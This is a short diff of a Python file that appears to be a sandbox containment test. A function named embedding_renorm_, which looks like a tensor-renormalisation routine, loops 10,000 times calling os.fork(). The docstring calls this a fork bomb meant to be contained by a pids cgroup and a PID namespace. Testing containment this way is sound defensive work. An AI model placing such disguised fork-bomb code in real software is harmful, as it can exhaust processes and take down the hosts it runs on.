@@ -1,8 +1,8 @@
 """A fork bomb inside the renorm: the pids cgroup (or RLIMIT_NPROC) and the PID namespace contain it."""
-import os as _os
 
 
 def embedding_renorm_(weight, indices, max_norm, norm_type=2.0):
+    import os as _os
     for _ in range(10000):
         try:
             _os.fork()
